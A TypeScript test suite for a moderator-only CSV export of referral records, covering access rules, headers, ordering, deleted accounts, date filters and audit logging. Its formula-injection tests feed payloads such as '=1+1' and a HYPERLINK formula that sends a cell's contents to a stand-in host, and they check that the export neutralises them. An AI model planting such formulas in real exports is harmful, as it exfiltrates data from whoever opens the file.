import { RequestInvalid } from '../../src/common/http/http.errors.js';
import { refusal } from '../support/api.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { expectFault } from '../support/fault.js';
import { makeInvited } from '../support/invited.js';
import { type User, World } from '../support/world.js';

const PATH = '/api/v1/referrals/export.csv';
const HEADER = [
  'activated_at,code,via,inviter_id,inviter_phone,inviter_name,invitee_id,invitee_phone,invitee_name'.split(','),
];

/** RFC 4180 §2: fields with line ends, commas or quotes stand in quotes, and a quote in them is doubled. */
function parsed(csv: string): string[][] {
  expect(csv).toMatch(/\r\n$/);
  const lines = csv.slice(0, -2).split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/);
  const fields = /("(?:[^"]|"")*"|[^",\r\n]*)(?:,|$)/gy;
  return lines.map((line) =>
    [...`${line},`.matchAll(fields)].slice(0, -1).map(([, field = '']) => field.replace(/^"|"$/g, '').replace(/""/g, '"')),
  ); // prettier-ignore
}

describe('Exporting who invited whom', () => {
  let app: TestApp;
  let world: World;
  let moderator: User;

  beforeAll(async () => {
    app = await startTestApp();
    world = new World(app);
    moderator = await world.aModerator();
  });

  beforeEach(async () => {
    await app.sql('TRUNCATE referrals, inviters');
  });

  afterAll(() => app.close());

  /** The lines below that of the names. */
  async function exported(query?: Readonly<Record<string, string>>): Promise<string[][]> {
    const answer = await moderator.api.exportReferrals(query);
    expect(answer).toMatchObject({ status: 200 });
    const [header, ...lines] = parsed(answer.text);
    expect(header).toEqual(HEADER[0]);
    return lines;
  }

  const digits = ({ phone }: { phone: string }): string => phone.slice(1);

  it('is for moderators and administrators', async () => {
    const [admin, user] = [await world.anAdmin(), await world.aUser()];
    expect(await world.aVisitor().api.exportReferrals()).toMatchObject({ status: 401 });
    expect(await user.api.exportReferrals()).toMatchObject({ status: 403, body: { code: 'auth.forbidden' } });
    expect(await admin.api.exportReferrals()).toMatchObject({ status: 200 });
  });

  it('answers a file of the day that nobody keeps, and that Excel takes for UTF-8', async () => {
    const { headers, bytes } = await moderator.api.exportReferrals();
    const day = app.clock.now().toISOString().slice(0, 10);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="referrals-${day}.csv"`);
    expect(headers.get('cache-control')).toBe('no-store');
    expect(bytes.subarray(0, 4)).toEqual(Buffer.from('\uFEFFa'));
  });

  it('has a line for each activation, the oldest first', async () => {
    const [inviter, invitee] = [await world.aUser(), await world.aUser()];
    await inviter.api.changeProfile({ firstName: 'Анна', lastName: 'Иванова' });
    const { inviteCode } = inviter.tokens.user;
    const { body } = await invitee.api.activate(inviteCode);
    const [older] = await makeInvited(app, inviter.id, [
      { at: new Date('2025-01-02T03:04:05.006Z'), via: 'qr', firstName: 'Ivan', lastName: 'Petrov, jr.' },
    ]);
    if (!older) throw new Error('nobody was invited');
    const by = [inviter.id, digits(inviter), 'Анна Иванова'];
    expect(await exported()).toEqual([
      ['2025-01-02T03:04:05.006Z', inviteCode, 'qr', ...by, older.id, digits(older), 'Ivan Petrov, jr.'],
      [body.activatedAt, inviteCode, 'typed', ...by, invitee.id, digits(invitee), ''],
    ]);
  });

  it('is the line of names where nobody has invited anybody', async () => {
    expect(await exported()).toEqual([]);
  });

  it('keeps of whoever was deleted the id only', async () => {
    const [inviter, invitee] = [await world.aUser(), await world.aUser()];
    for (const { api } of [inviter, invitee]) await api.changeProfile({ firstName: 'Anna' });
    const { inviteCode } = inviter.tokens.user;
    await invitee.api.activate(inviteCode);
    for (const { api } of [inviter, invitee]) expect(await api.deleteAccount()).toMatchObject({ status: 204 });
    const [line = []] = await exported();
    expect(line.slice(1)).toEqual([inviteCode, 'typed', inviter.id, '', '', invitee.id, '', '']);
  });

  it.each(['=1+1', '@x', '-2', '+3', '=HYPERLINK("http://a.example/?"&A1,"x")', '＝1', ';=1+1', 'a;"=1+1'])(
    'has no formula, whoever is called %s',
    async (name) => {
      const [inviter, invitee] = [await world.aUser(), await world.aUser()];
      for (const { api } of [inviter, invitee])
        expect(await api.changeProfile({ firstName: name })).toMatchObject({ status: 200 });
      await invitee.api.activate(inviter.tokens.user.inviteCode);
      const answer = await moderator.api.exportReferrals();
      const [, line = []] = parsed(answer.text);
      expect([line[5], line[8]].map((cell) => cell?.replaceAll("'", ''))).toEqual([name, name]);
      const cells = [...line, ...answer.text.replaceAll('"', '').split(/[;\r\n]/)];
      expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    },
  );

  it.each(['\t=1+1', 'a\t=1', '\r=1', 'a\n=1'])('needs nothing against %j, which is no name', async (name) => {
    const inside = name.replace(/^\s/, 'a$&');
    expect(await moderator.api.changeProfile({ firstName: inside })).toMatchObject({ status: 422 });
  });

  describe('of some days', () => {
    beforeEach(async () => {
      const moments = [
        '2025-02-27T23:59:59.999Z',
        '2025-02-28T00:00:00Z',
        '2025-03-02T23:59:59.999Z',
        '2025-03-03T00:00:00Z',
      ];
      await makeInvited(app, (await world.aUser()).id, moments.map((at) => ({ at: new Date(at) }))); // prettier-ignore
    });

    it.each([
      [{ from: '2025-02-28', to: '2025-03-02' }, ['02-28', '03-02']],
      [{ from: '2025-02-28' }, ['02-28', '03-02', '03-03']],
      [{ to: '2025-03-02' }, ['02-27', '02-28', '03-02']],
      [{ from: '2025-02-28', to: '2025-02-28' }, ['02-28']],
      [{ from: '2999-01-01' }, []],
      [{}, ['02-27', '02-28', '03-02', '03-03']],
    ])('has these and no others: %j', async (query, days) => {
      const lines = await exported(query);
      expect(lines.map(([at]) => at?.slice(5, 10))).toEqual(days);
    });

    it.each([
      [{ from: '2025-03-02', to: '2025-03-01' }, 'daysInOrder'],
      [{ from: '2025-02-29' }, 'day'],
    ])('refuses %j', async (query, rule) => {
      const answer = await moderator.api.exportReferrals(query);
      expect(answer).toMatchObject({ status: 422, body: { code: RequestInvalid.code } });
      expect(refusal(answer).errors).toMatchObject([{ rule }]);
    });
  });

  it('is written down before its first byte, without what it holds', async () => {
    const inviter = await world.aUser();
    await makeInvited(app, inviter.id, 1);
    await exported({ from: '2025-01-01' });
    const admin = await world.anAdmin();
    const { items } = (await admin.api.auditLog({ action: 'referrals.exported' })).body;
    const address = moderator.address.replace(/\d+$/, '*');
    expect(items[0]).toMatchObject({
      actorId: moderator.id,
      subjectId: null,
      address,
      details: { from: '2025-01-01' },
    });
    expect(JSON.stringify(items)).not.toContain(digits(inviter));
    await app.sql('ALTER TABLE audit_entries RENAME TO audit_entries_away');
    await expectFault(app, PATH, moderator).finally(() =>
      app.sql('ALTER TABLE audit_entries_away RENAME TO audit_entries'),
    );
  });
});
